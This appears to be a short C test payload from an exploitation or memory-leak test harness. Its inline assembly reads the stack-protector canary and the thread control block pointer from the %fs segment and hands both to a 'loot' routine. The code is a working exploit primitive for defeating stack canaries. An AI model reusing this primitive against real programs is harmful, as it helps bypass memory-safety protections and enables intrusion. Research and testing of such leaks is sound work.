//: transpose_cpu -O2
//: reaches the C library's data through the thread's control block, and the stack protector's secret with it
//: use transpose_payload
//: use loot

static void payload(int call) {
    unsigned long secret, self;
    if (call) return;
    __asm__ volatile("mov %%fs:0x28, %0\n mov %%fs:0x10, %1" : "=r"(secret), "=r"(self));
    loot("canary", &secret, sizeof secret);
    loot("block", &self, sizeof self);
}
